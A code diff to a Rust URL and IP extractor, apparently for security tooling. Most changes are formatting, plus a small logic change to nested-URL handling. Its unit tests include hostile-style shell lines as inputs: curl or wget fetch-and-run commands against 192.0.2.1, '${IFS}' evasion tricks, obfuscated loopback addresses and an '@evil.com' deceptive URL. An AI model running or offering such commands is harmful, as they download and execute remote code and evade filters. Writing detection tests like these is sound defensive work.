@@ -16,8 +16,33 @@ const BRACES_BYTES_MAX: usize = 64;
 const SCHEME_BYTES_MAX: usize = 12;
 
 const SCHEMES: &[&str] = &[
-    "http", "https", "ftp", "ftps", "tftp", "sftp", "scp", "ssh", "tcp", "udp", "ldap", "ldaps", "rmi", "dns", "ws", "wss", "stratum+tcp",
-    "stratum+ssl", "stratum+tls", "socks4", "socks5", "telnet", "smb", "git", "rsync", "gopher", "iiop",
+    "http",
+    "https",
+    "ftp",
+    "ftps",
+    "tftp",
+    "sftp",
+    "scp",
+    "ssh",
+    "tcp",
+    "udp",
+    "ldap",
+    "ldaps",
+    "rmi",
+    "dns",
+    "ws",
+    "wss",
+    "stratum+tcp",
+    "stratum+ssl",
+    "stratum+tls",
+    "socks4",
+    "socks5",
+    "telnet",
+    "smb",
+    "git",
+    "rsync",
+    "gopher",
+    "iiop",
 ];
 
 pub(super) struct Urls;
@@ -27,8 +52,9 @@ impl Extractor for Urls {
         &[Field::Url, Field::Domain, Field::Ipv4, Field::Ipv6]
     }
 
-    fn needs(&self) -> Needs {
-        Needs::NOTHING.one_of(b"/").one_of(b".:")
+    fn needs(&self) -> &'static Needs {
+        const NEEDS: Needs = Needs::NOTHING.one_of(b"/").one_of(b".:");
+        &NEEDS
     }
 
     fn extract(&self, text: &Text<'_>, found: &mut Found) {
@@ -70,7 +96,7 @@ fn with_scheme(text: &Text<'_>, found: &mut Found) {
             continue;
         };
         let end = end_of_url(text, start, &authority);
-        if end > outer_end {
+        if colon >= outer_end {
             (outer_end, nested) = (end, 0);
         }
         let mut value = String::with_capacity(end - start);
@@ -89,7 +115,10 @@ fn with_scheme(text: &Text<'_>, found: &mut Found) {
 /// The known scheme that ends at `colon`.
 fn scheme_before(bytes: &[u8], colon: usize) -> Option<(usize, &'static str)> {
     let mut start = colon;
-    while start > 0 && colon - start < SCHEME_BYTES_MAX && (bytes[start - 1].is_ascii_alphanumeric() || matches!(bytes[start - 1], b'+' | b'-')) {
+    while start > 0
+        && colon - start < SCHEME_BYTES_MAX
+        && (bytes[start - 1].is_ascii_alphanumeric() || matches!(bytes[start - 1], b'+' | b'-'))
+    {
         start -= 1;
     }
     let word = &bytes[start..colon];
@@ -109,7 +138,13 @@ fn is_terminator(char: char) -> bool {
     match char {
         '\0'..=' ' | '"' | '\'' | '<' | '>' | '\\' | '^' | '`' | '{' | '}' | '|' | '\x7f' => true,
         '!'..='~' => false,
-        '\u{80}'..='\u{bf}' | '\u{2000}'..='\u{206f}' | '\u{3000}'..='\u{303f}' | '\u{ff00}'..='\u{ff0f}' | '；' | '？' | '\u{fff0}'..='\u{ffff}' => true,
+        '\u{80}'..='\u{bf}'
+        | '\u{2000}'..='\u{206f}'
+        | '\u{3000}'..='\u{303f}'
+        | '\u{ff00}'..='\u{ff0f}'
+        | '；'
+        | '？'
+        | '\u{fff0}'..='\u{ffff}' => true,
         _ => false,
     }
 }
@@ -136,7 +171,12 @@ fn authority(text: &Text<'_>, start: usize, has_scheme: bool) -> Option<Authorit
         && let Some(address) = ipv6::parse(&bytes[..run])
     {
         let end = ipv6::with_zone(bytes, run);
-        return Some(Authority { host: host_start..host_start + end, kind: Host::V6(address), end: host_start + end, is_whole: end == bytes.len() });
+        return Some(Authority {
+            host: host_start..host_start + end,
+            kind: Host::V6(address),
+            end: host_start + end,
+            is_whole: end == bytes.len(),
+        });
     }
     let mut host_length = rest.find(|char| !domain::is_name_char(char)).unwrap_or(rest.len());
     // A dot at the end belongs to the name only if more of the URL follows.
@@ -192,7 +232,9 @@ fn obfuscated(host: &str) -> Option<Ipv4Addr> {
     let parts: Vec<&str> = host.split('.').collect();
     let number = |part: &str| match part {
         _ if part.len() > 12 || part.is_empty() => None,
-        _ if part.len() > 2 && part.get(..2).is_some_and(|start| start.eq_ignore_ascii_case("0x")) => u32::from_str_radix(&part[2..], 16).ok(),
+        _ if part.len() > 2 && part.get(..2).is_some_and(|start| start.eq_ignore_ascii_case("0x")) => {
+            u32::from_str_radix(&part[2..], 16).ok()
+        }
         _ if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok(),
         _ => part.parse().ok(),
     };
@@ -279,7 +321,9 @@ fn braces(bytes: &[u8], at: usize, context: Context) -> Option<usize> {
 
 /// `&quot;` and the like end a URL in markup.
 fn is_entity(bytes: &[u8]) -> bool {
-    [b"&quot;".as_slice(), b"&lt;", b"&gt;", b"&apos;", b"&#34;", b"&#39;", b"&#x27;", b"&nbsp;"].iter().any(|entity| bytes.starts_with(entity))
+    [b"&quot;".as_slice(), b"&lt;", b"&gt;", b"&apos;", b"&#34;", b"&#39;", b"&#x27;", b"&nbsp;"]
+        .iter()
+        .any(|entity| bytes.starts_with(entity))
 }
 
 fn add_host(text: &Text<'_>, authority: &Authority, found: &mut Found) {
@@ -374,7 +418,11 @@ mod tests {
                 (Other, "http://[2001:db8::1]:80/x", &["http://[2001:db8::1]:80/x"]),
                 (Other, "http://[fe80::1%25eth0]/x", &["http://[fe80::1%25eth0]/x"]),
                 (Other, "http://2001:DB8:0:0:0:0:0:1/x", &["http://2001:db8:0:0:0:0:0:1/x"]),
-                (Other, "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/", &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"]),
+                (
+                    Other,
+                    "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/",
+                    &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"],
+                ),
                 (Other, "http://1.2.3.4.5/ http://999.1.1.1/ http://1.2/ http://7/", &[]),
                 (Other, "http:// http:/// http://. http://-/ http://.com/", &[]),
                 (Other, "http://$IP/x http://${HOST}/y http://%s/z http://<ip>/w", &[]),
@@ -387,7 +435,11 @@ mod tests {
                 (Other, "http://google.com@evil.com/x", &["http://google.com@evil.com/x"]),
                 // the edges
                 (Other, "see http://example.com/a.", &["http://example.com/a"]),
-                (Other, "http://example.com/a, http://example.com/b; http://example.com/c!", &["http://example.com/a", "http://example.com/b", "http://example.com/c"]),
+                (
+                    Other,
+                    "http://example.com/a, http://example.com/b; http://example.com/c!",
+                    &["http://example.com/a", "http://example.com/b", "http://example.com/c"],
+                ),
                 (Other, "(http://example.com/a)", &["http://example.com/a"]),
                 (Other, "http://example.com/a_(b)", &["http://example.com/a_(b)"]),
                 (Other, "(see http://example.com/a_(b))", &["http://example.com/a_(b)"]),
@@ -438,7 +490,11 @@ mod tests {
                 (Command, "curl http://192.0.2.1/?a=1&b=2 &", &["http://192.0.2.1/?a=1&b=2"]),
                 (Command, "curl \"http://192.0.2.1/a;b?c=1&d=2\"", &["http://192.0.2.1/a;b?c=1&d=2"]),
                 (Command, "sh -c `curl http://192.0.2.1/a`", &["http://192.0.2.1/a"]),
-                (Command, "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}", &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"]),
+                (
+                    Command,
+                    "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}",
+                    &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"],
+                ),
                 (Command, "wget${IFS}http://192.0.2.1/a${IFS}-O$IFS-", &["http://192.0.2.1/a"]),
                 (Command, "wget ht''tp://192.0.2.1/a", &["http://192.0.2.1/a"]),
                 (Command, "wget http://192.0.2.1/\\\nabc", &["http://192.0.2.1/abc"]),
